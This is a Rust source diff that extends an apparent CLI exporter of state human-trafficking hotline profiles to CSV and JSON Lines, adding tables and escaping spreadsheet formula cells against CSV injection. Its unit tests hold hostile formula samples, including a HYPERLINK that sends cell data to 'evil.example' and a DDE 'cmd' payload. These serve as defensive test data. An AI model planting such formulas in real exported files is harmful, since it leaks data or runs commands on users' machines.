@@ -22,21 +22,31 @@ pub(crate) struct Args {
     /// standard output.
     #[arg(short, long)]
     output: Option<PathBuf>,
+    /// CSV: write every text cell exactly as the profile has it. By default a text cell that
+    /// begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so that a
+    /// spreadsheet shows it as text instead of running it as a formula (OWASP's advice against
+    /// CSV injection); numbers are never changed, and JSON Lines always keeps values exact.
+    #[arg(long)]
+    raw_cells: bool,
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 enum Format {
-    /// Comma-separated values, RFC 4180, with a header row.
+    /// Comma-separated values, RFC 4180, with a header row; text cells that a spreadsheet would
+    /// run as a formula start with `'` (see `--raw-cells`).
     Csv,
-    /// One JSON object per line.
+    /// One JSON object per line, values exactly as in the profiles.
     Jsonl,
 }
 
 /// The tables, each with one row per …
 #[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
 enum Table {
-    /// … jurisdiction: code, name, region, status, cases, persons.
+    /// … jurisdiction: identity, status, headline figures, and every single-valued fact.
     Profiles,
+    /// … jurisdiction and area the heat map shades.
+    #[value(name = "heat_map")]
+    HeatMap,
     /// … jurisdiction and year: calls, cases reported.
     #[value(name = "hotline_statistics")]
     HotlineStatistics,
@@ -44,26 +54,31 @@ enum Table {
     Demographics,
     /// … jurisdiction, kind and rank: venue.
     Venues,
-    /// … jurisdiction and law: title, citation.
+    /// … jurisdiction and law: title, citation, url.
     Laws,
     /// … jurisdiction, list and name: url.
     Efforts,
+    /// … jurisdiction and hotline: name, phone.
+    Hotlines,
 }
 
-const TABLES: [Table; 6] = [
+const TABLES: [Table; 8] = [
     Table::Profiles,
+    Table::HeatMap,
     Table::HotlineStatistics,
     Table::Demographics,
     Table::Venues,
     Table::Laws,
     Table::Efforts,
+    Table::Hotlines,
 ];
 
-/// A cell: text, a count, or nothing.
+/// A cell: text, a count, a yes/no, or nothing.
 #[derive(Debug, Clone, PartialEq, Eq)]
 enum Cell {
     Text(String),
     Number(u64),
+    Bool(bool),
     Empty,
 }
 
@@ -79,49 +94,89 @@ impl From<u32> for Cell {
     }
 }
 
+impl From<bool> for Cell {
+    fn from(b: bool) -> Self {
+        Self::Bool(b)
+    }
+}
+
+impl From<usize> for Cell {
+    fn from(n: usize) -> Self {
+        Self::Number(u64::try_from(n).unwrap_or(u64::MAX))
+    }
+}
+
 impl<T: Into<Cell>> From<Option<T>> for Cell {
     fn from(value: Option<T>) -> Self {
         value.map_or(Self::Empty, Into::into)
     }
 }
 
+/// The first characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
 impl Table {
     fn name(self) -> &'static str {
         match self {
             Self::Profiles => "profiles",
+            Self::HeatMap => "heat_map",
             Self::HotlineStatistics => "hotline_statistics",
             Self::Demographics => "demographics",
             Self::Venues => "venues",
             Self::Laws => "laws",
             Self::Efforts => "efforts",
+            Self::Hotlines => "hotlines",
         }
     }
 
     fn header(self) -> &'static [&'static str] {
         match self {
-            Self::Profiles => &["code", "name", "region", "status", "cases", "persons"],
+            // The first six columns come first, as they always have; the rest follow the format's
+            // key order. An empty `*_listed`, `heat_map_year`, `non_cumulative_note`,
+            // `statistics_source_name` or `referral_directory_agencies` means that the profile
+            // has no such section (a list that is present but empty counts 0).
+            Self::Profiles => &[
+                "code",
+                "name",
+                "region",
+                "status",
+                "cases",
+                "persons",
+                "schema",
+                "schema_version",
+                "reporting_period_start",
+                "reporting_period_end",
+                "heat_map_year",
+                "non_cumulative_note",
+                "state_statistics_url",
+                "statistics_source_name",
+                "statistics_source_url",
+                "sex_venues_listed",
+                "labor_venues_listed",
+                "call_types_year",
+                "laws_listed",
+                "referral_directory_agencies",
+            ],
+            Self::HeatMap => &["code", "area"],
             Self::HotlineStatistics => &["code", "year", "calls", "cases_reported"],
             Self::Demographics => &["code", "block", "class", "count"],
             Self::Venues => &["code", "kind", "rank", "venue"],
-            Self::Laws => &["code", "title", "citation"],
+            Self::Laws => &["code", "title", "citation", "url"],
             Self::Efforts => &["code", "list", "name", "url"],
+            Self::Hotlines => &["code", "name", "phone"],
         }
     }
 
-    /// The rows of one profile.
+    /// The rows of one profile, in the profile's order.
     fn rows(self, profile: &Profile, rows: &mut Vec<Vec<Cell>>) {
         let code = Cell::from(profile.state.code.as_str());
         let row = |cells: Vec<Cell>| [vec![code.clone()], cells].concat();
         match self {
-            Self::Profiles => {
-                let cases = profile.hotline_cases;
-                rows.push(row(vec![
-                    profile.state.name.as_str().into(),
-                    u32::from(profile.hhs_region.get()).into(),
-                    profile.status.as_str().into(),
-                    cases.map(|c| c.cases_reported).into(),
-                    cases.map(|c| c.potential_persons_trafficked).into(),
-                ]));
+            Self::Profiles => rows.push(row(single_facts(profile))),
+            Self::HeatMap => {
+                for area in profile.heat_map.iter().flat_map(|h| &h.shaded_areas) {
+                    rows.push(row(vec![area.as_str().into()]));
+                }
             }
             Self::HotlineStatistics => {
                 for y in profile.hotline_statistics.iter().flat_map(|s| &s.years) {
@@ -173,6 +228,7 @@ impl Table {
                     rows.push(row(vec![
                         law.title.as_str().into(),
                         law.citation.as_str().into(),
+                        law.url.as_deref().into(),
                     ]));
                 }
             }
@@ -196,8 +252,56 @@ impl Table {
                     }
                 }
             }
+            Self::Hotlines => {
+                for hotline in &profile.hotlines {
+                    rows.push(row(vec![
+                        hotline.name.as_str().into(),
+                        hotline.phone.as_str().into(),
+                    ]));
+                }
+            }
         }
     }
+}
+
+/// The `profiles` row of `profile` but its code: every fact that a profile holds once.
+fn single_facts(profile: &Profile) -> Vec<Cell> {
+    let cases = profile.hotline_cases;
+    let period = profile.reporting_period.as_ref();
+    let source = profile.hotline_statistics.as_ref().map(|s| &s.source);
+    vec![
+        profile.state.name.as_str().into(),
+        u32::from(profile.hhs_region.get()).into(),
+        profile.status.as_str().into(),
+        cases.map(|c| c.cases_reported).into(),
+        cases.map(|c| c.potential_persons_trafficked).into(),
+        profile.schema.as_deref().into(),
+        Cell::Number(tipkit_model::SchemaVersion::CURRENT),
+        period.map(|p| p.start.as_str()).into(),
+        period.map(|p| p.end.as_str()).into(),
+        profile
+            .heat_map
+            .as_ref()
+            .map(|h| u32::from(h.year.get()))
+            .into(),
+        profile.demographics.map(|d| d.non_cumulative_note).into(),
+        profile.state_statistics_url.as_str().into(),
+        source.map(|s| s.name.as_str()).into(),
+        source.map(|s| s.url.as_str()).into(),
+        profile.sex_trafficking_venues.as_ref().map(Vec::len).into(),
+        profile
+            .labor_trafficking_venues
+            .as_ref()
+            .map(Vec::len)
+            .into(),
+        profile.call_types.map(|c| u32::from(c.year.get())).into(),
+        profile.laws.as_ref().map(Vec::len).into(),
+        profile
+            .statewide_efforts
+            .as_ref()
+            .map(|e| e.referral_directory_agencies)
+            .into(),
+    ]
 }
 
 pub(crate) fn run(args: &Args) -> anyhow::Result<Outcome> {
@@ -215,7 +319,7 @@ pub(crate) fn run(args: &Args) -> anyhow::Result<Outcome> {
             table.rows(profile, &mut rows);
         }
         let text = match args.format {
-            Format::Csv => csv(table.header(), &rows)?,
+            Format::Csv => csv(table.header(), &rows, args.raw_cells)?,
             Format::Jsonl => jsonl(table.header(), &rows),
         };
         match &args.output {
@@ -273,16 +377,21 @@ fn read(path: &Path) -> anyhow::Result<Profile> {
     tipkit_model::from_slice(&bytes).with_context(|| path.display().to_string())
 }
 
-/// RFC 4180: CRLF line ends, fields quoted where they hold a comma, a quote or a line end.
-fn csv(header: &[&str], rows: &[Vec<Cell>]) -> anyhow::Result<String> {
+/// RFC 4180: CRLF line ends, fields quoted where they hold a comma, a quote or a line end. Unless
+/// `raw_cells`, a text cell that a spreadsheet would run as a formula gets a leading `'`.
+fn csv(header: &[&str], rows: &[Vec<Cell>], raw_cells: bool) -> anyhow::Result<String> {
     let mut writer = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(Vec::new());
     writer.write_record(header)?;
     for row in rows {
         writer.write_record(row.iter().map(|cell| match cell {
+            Cell::Text(text) if !raw_cells && text.starts_with(FORMULA_STARTS) => {
+                format!("'{text}")
+            }
             Cell::Text(text) => text.clone(),
             Cell::Number(n) => n.to_string(),
+            Cell::Bool(b) => b.to_string(),
             Cell::Empty => String::new(),
         }))?;
     }
@@ -299,6 +408,7 @@ fn jsonl(header: &[&str], rows: &[Vec<Cell>]) -> String {
                 let value = match cell {
                     Cell::Text(text) => serde_json::Value::from(text.as_str()),
                     Cell::Number(n) => serde_json::Value::from(*n),
+                    Cell::Bool(b) => serde_json::Value::from(*b),
                     Cell::Empty => serde_json::Value::Null,
                 };
                 ((*key).to_owned(), value)
@@ -307,4 +417,70 @@ fn jsonl(header: &[&str], rows: &[Vec<Cell>]) -> String {
         let _ = writeln!(out, "{}", serde_json::Value::Object(object));
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn one_row(cells: Vec<Cell>, raw_cells: bool) -> String {
+        let header = vec!["c"; cells.len()];
+        let text = csv(&header, &[cells], raw_cells).unwrap();
+        text.split_once("\r\n").unwrap().1.to_owned()
+    }
+
+    #[test]
+    fn text_that_a_spreadsheet_would_run_gets_a_quote() {
+        let hostile = [
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        for text in hostile {
+            assert_eq!(cell(text, false), format!("'{text}"), "{text:?}");
+            assert_eq!(cell(text, true), text, "--raw-cells keeps {text:?}");
+        }
+    }
+
+    /// The one cell of a row written from `text`, as a CSV reader reads it back.
+    fn cell(text: &str, raw_cells: bool) -> String {
+        let row = one_row(vec![text.into()], raw_cells);
+        let record = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(row.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap();
+        record[0].to_owned()
+    }
+
+    #[test]
+    fn numbers_and_plain_text_stay_as_they_are() {
+        let row = one_row(
+            vec![
+                "Connecticut".into(),
+                "§ 53a-82".into(),
+                "888-373-7888".into(),
+                " =not a formula start".into(),
+                Cell::Number(186),
+                Cell::Bool(true),
+                Cell::Empty,
+            ],
+            false,
+        );
+        assert_eq!(
+            row,
+            "Connecticut,§ 53a-82,888-373-7888, =not a formula start,186,true,\r\n"
+        );
+    }
+
+    #[test]
+    fn json_lines_keep_text_exact() {
+        let text = jsonl(&["name"], &[vec!["=1+1".into()]]);
+        assert_eq!(text, "{\"name\":\"=1+1\"}\n");
+    }
 }
